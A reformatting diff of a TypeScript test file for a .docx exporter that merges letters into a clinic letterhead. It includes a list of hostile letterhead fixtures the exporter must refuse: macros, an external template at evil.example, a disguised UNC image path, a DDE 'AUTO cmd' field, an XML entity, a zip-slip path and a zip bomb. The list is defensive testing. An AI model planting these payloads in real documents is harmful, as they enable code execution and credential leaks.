@@ -9,12 +9,23 @@ import { toDocx } from './docx.ts';
 import { readZip } from './zip.ts';
 
 const style = exportSettings.parse({ fontFamily: 'Verdana', fontSize: 10.5, textAlign: 'justify' });
-const numbered = (...lines: string[]): Richtext['content'][number] => ({ type: 'orderedList', attrs: { start: 4 }, content: lines.map((line) => ({ type: 'listItem', content: [paragraphOf(line)] })) });
+const numbered = (...lines: string[]): Richtext['content'][number] => ({
+  type: 'orderedList',
+  attrs: { start: 4 },
+  content: lines.map((line) => ({ type: 'listItem', content: [paragraphOf(line)] })),
+});
 const letter: Richtext = {
   type: 'doc',
   content: [
     headingOf('Plan', 2),
-    { type: 'paragraph', content: [{ type: 'text', text: 'Keep <5 mg & ', marks: [{ type: 'bold' }, { type: 'italic' }, { type: 'underline' }] }, { type: 'hardBreak' }, { type: 'text', text: 'review\u000B {{body}}' }] },
+    {
+      type: 'paragraph',
+      content: [
+        { type: 'text', text: 'Keep <5 mg & ', marks: [{ type: 'bold' }, { type: 'italic' }, { type: 'underline' }] },
+        { type: 'hardBreak' },
+        { type: 'text', text: 'review\u000B {{body}}' },
+      ],
+    },
     bulletsOf(['Walk', 'Rest']),
     numbered('First', 'Second'),
   ],
@@ -24,26 +35,42 @@ const texts = (xml: string) => [...xml.matchAll(/<w:t(?: [^>]*)?>([^<]*)/g)].map
 const bodyParagraphs = (xml: string) => [...xml.matchAll(/<w:p>.*?<\/w:p>/gs)].map(([xml]) => xml);
 
 async function letterheadWith(lines: Paragraph[], change: (zip: PizZip) => void = () => {}): Promise<Uint8Array> {
-  const bytes = await Packer.toBuffer(new Document({
-    sections: [{ headers: { default: new Header({ children: [new Paragraph('Harbour Street Clinic')] }) }, footers: { default: new Footer({ children: [new Paragraph('ABN 51 824 753 556')] }) }, children: lines }],
-  }));
+  const bytes = await Packer.toBuffer(
+    new Document({
+      sections: [
+        {
+          headers: { default: new Header({ children: [new Paragraph('Harbour Street Clinic')] }) },
+          footers: { default: new Footer({ children: [new Paragraph('ABN 51 824 753 556')] }) },
+          children: lines,
+        },
+      ],
+    }),
+  );
   const zip = new PizZip(bytes);
   change(zip);
   return zip.generate({ type: 'uint8array' });
 }
-const edit = (name: string, from: string, to: string) => (zip: PizZip) => void zip.file(name, (zip.file(name)?.asText() ?? '').replace(from, to));
+const edit = (name: string, from: string, to: string) => (zip: PizZip) =>
+  void zip.file(name, (zip.file(name)?.asText() ?? '').replace(from, to));
 
 describe('toDocx', () => {
   test('headings, marks, breaks, lists, font, size and alignment can be read back', async () => {
     const bytes = await toDocx(letter, style);
     const [heading, text, bullet, , first] = bodyParagraphs(read(bytes));
     expect(heading).toMatch(/<w:pStyle w:val="Heading2"\/>.*<w:b\/>.*<w:t[^>]*>Plan/s);
-    expect(text).toMatch(/<w:jc w:val="both"\/>.*<w:rFonts w:ascii="Verdana".*<w:b\/>.*<w:i\/>.*<w:sz w:val="21"\/>.*<w:u w:val="single"\/>.*Keep &lt;5 mg &amp; .*<w:br\/>.*review {{body}}/s);
+    expect(text).toMatch(
+      /<w:jc w:val="both"\/>.*<w:rFonts w:ascii="Verdana".*<w:b\/>.*<w:i\/>.*<w:sz w:val="21"\/>.*<w:u w:val="single"\/>.*Keep &lt;5 mg &amp; .*<w:br\/>.*review {{body}}/s,
+    );
     const listOf = (paragraph = '') => /<w:numId w:val="(\d+)"/.exec(paragraph)?.[1];
     const numbering = read(bytes, 'word/numbering.xml');
     const formatOf = (id = '') => {
       const abstract = new RegExp(`<w:num w:numId="${id}"[^>]*><w:abstractNumId w:val="(\\d+)"`).exec(numbering)?.[1];
-      return new RegExp(`<w:abstractNum w:abstractNumId="${abstract}".*?<w:start w:val="(\\d+)"/><w:numFmt w:val="(\\w+)"`, 's').exec(numbering)?.slice(1);
+      return new RegExp(
+        `<w:abstractNum w:abstractNumId="${abstract}".*?<w:start w:val="(\\d+)"/><w:numFmt w:val="(\\w+)"`,
+        's',
+      )
+        .exec(numbering)
+        ?.slice(1);
     };
     expect(formatOf(listOf(bullet))?.[1]).toBe('bullet');
     expect(formatOf(listOf(first))).toEqual(['4', 'decimal']);
@@ -58,11 +85,16 @@ describe('toDocx', () => {
 
 describe('a letterhead', () => {
   test('keeps its header, footer and styles, and takes the text where it says {{body}} even when Word split the tag', async () => {
-    const tag = new Paragraph({ children: [new TextRun({ text: '{{bo', bold: true }), new TextRun('dy'), new TextRun('}}')] });
+    const tag = new Paragraph({
+      children: [new TextRun({ text: '{{bo', bold: true }), new TextRun('dy'), new TextRun('}}')],
+    });
     const letterhead = await letterheadWith([new Paragraph('Above'), tag, new Paragraph('Below {{other}} {{#loop}}x')]);
     const bytes = await toDocx(letter, { ...style, letterhead });
-    expect(texts(read(bytes))).toBe('AbovePlanKeep &lt;5 mg &amp; review {{body}}WalkRestFirstSecondBelow {{other}} {{#loop}}x');
-    for (const part of ['word/header1.xml', 'word/footer1.xml', 'word/styles.xml']) expect(read(bytes, part)).toBe(read(letterhead, part));
+    expect(texts(read(bytes))).toBe(
+      'AbovePlanKeep &lt;5 mg &amp; review {{body}}WalkRestFirstSecondBelow {{other}} {{#loop}}x',
+    );
+    for (const part of ['word/header1.xml', 'word/footer1.xml', 'word/styles.xml'])
+      expect(read(bytes, part)).toBe(read(letterhead, part));
     expect(read(bytes)).toContain('<w:headerReference');
   });
 
@@ -87,8 +119,16 @@ describe('a letterhead', () => {
   test('gets a list part where it had none', async () => {
     const plain = await letterheadWith([new Paragraph('Above')], (zip) => {
       zip.remove('word/numbering.xml');
-      edit('[Content_Types].xml', /<Override[^>]*numbering[^>]*>/.exec(zip.file('[Content_Types].xml')?.asText() ?? '')?.[0] ?? '', '')(zip);
-      edit('word/_rels/document.xml.rels', /<Relationship [^>]*numbering[^>]*>/.exec(zip.file('word/_rels/document.xml.rels')?.asText() ?? '')?.[0] ?? '', '')(zip);
+      edit(
+        '[Content_Types].xml',
+        /<Override[^>]*numbering[^>]*>/.exec(zip.file('[Content_Types].xml')?.asText() ?? '')?.[0] ?? '',
+        '',
+      )(zip);
+      edit(
+        'word/_rels/document.xml.rels',
+        /<Relationship [^>]*numbering[^>]*>/.exec(zip.file('word/_rels/document.xml.rels')?.asText() ?? '')?.[0] ?? '',
+        '',
+      )(zip);
     });
     const bytes = await toDocx(letter, { ...style, letterhead: plain });
     expect(read(bytes, 'word/numbering.xml')).toContain('w:numFmt w:val="bullet"');
@@ -96,19 +136,52 @@ describe('a letterhead', () => {
     expect(read(bytes, 'word/_rels/document.xml.rels').match(/numbering\.xml/g)).toHaveLength(1);
   });
 
-  const relation = (rest: string) => edit('word/_rels/document.xml.rels', '</Relationships>', `<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${rest}/></Relationships>`);
+  const relation = (rest: string) =>
+    edit(
+      'word/_rels/document.xml.rels',
+      '</Relationships>',
+      `<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${rest}/></Relationships>`,
+    );
   const hostile: [string, string, (zip: PizZip) => void][] = [
     ['macros', 'macros', (zip) => void zip.file('word/vbaProject.bin', 'x')],
-    ['a macro content type', 'macros', edit('[Content_Types].xml', 'wordprocessingml.document.main', 'wordprocessingml.document.macroEnabled.main')],
+    [
+      'a macro content type',
+      'macros',
+      edit('[Content_Types].xml', 'wordprocessingml.document.main', 'wordprocessingml.document.macroEnabled.main'),
+    ],
     ['an embedded object', 'macros', (zip) => void zip.file('word/embeddings/oleObject1.bin', 'x')],
-    ['an attached template elsewhere', 'outside_reference', relation('attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"')],
-    ['a picture elsewhere, its mode in disguise', 'outside_reference', relation('image" Target="\\\\evil\\a.png" TargetMode="&#69;xternal"')],
-    ['a link that runs something', 'outside_reference', relation('hyperlink" Target="file:///c:/a.exe" TargetMode="External"')],
-    ['a field that fetches', 'outside_reference', edit('word/document.xml', '</w:body>', '<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd</w:instrText></w:r></w:p></w:body>')],
+    [
+      'an attached template elsewhere',
+      'outside_reference',
+      relation('attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"'),
+    ],
+    [
+      'a picture elsewhere, its mode in disguise',
+      'outside_reference',
+      relation('image" Target="\\\\evil\\a.png" TargetMode="&#69;xternal"'),
+    ],
+    [
+      'a link that runs something',
+      'outside_reference',
+      relation('hyperlink" Target="file:///c:/a.exe" TargetMode="External"'),
+    ],
+    [
+      'a field that fetches',
+      'outside_reference',
+      edit(
+        'word/document.xml',
+        '</w:body>',
+        '<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd</w:instrText></w:r></w:p></w:body>',
+      ),
+    ],
     ['an entity', 'not_word', edit('word/styles.xml', '<w:styles', '<!DOCTYPE x [<!ENTITY a "b">]><w:styles')],
     ['no document', 'not_word', (zip) => void zip.remove('word/document.xml')],
     ['a way out of the folder', 'not_word', (zip) => void zip.file('../../evil.xml', 'x')],
-    ['a zip bomb', 'too_large', (zip) => void zip.file('word/media/bomb.xml', new Uint8Array(70 * 1024 * 1024), { compression: 'DEFLATE' })],
+    [
+      'a zip bomb',
+      'too_large',
+      (zip) => void zip.file('word/media/bomb.xml', new Uint8Array(70 * 1024 * 1024), { compression: 'DEFLATE' }),
+    ],
   ];
   test.each(hostile)('with %s is refused', async (_, problem, change) => {
     const letterhead = await letterheadWith([new Paragraph('Above')], change);
@@ -116,12 +189,17 @@ describe('a letterhead', () => {
   });
 
   test('with a link to the practice’s website is taken', async () => {
-    const letterhead = await letterheadWith([new Paragraph('Above')], relation('hyperlink" Target="https://clinic.example" TargetMode="External"'));
+    const letterhead = await letterheadWith(
+      [new Paragraph('Above')],
+      relation('hyperlink" Target="https://clinic.example" TargetMode="External"'),
+    );
     expect(texts(read(await toDocx(letter, { ...style, letterhead })))).toContain('Walk');
   });
 
   test('that is no zip at all is refused', async () => {
-    await expect(toDocx(letter, { ...style, letterhead: new TextEncoder().encode('%PDF-1.7') })).rejects.toMatchObject({ problem: 'not_word' });
+    await expect(toDocx(letter, { ...style, letterhead: new TextEncoder().encode('%PDF-1.7') })).rejects.toMatchObject({
+      problem: 'not_word',
+    });
   });
 
   test('that lies about its size is not inflated past the limit', () => {
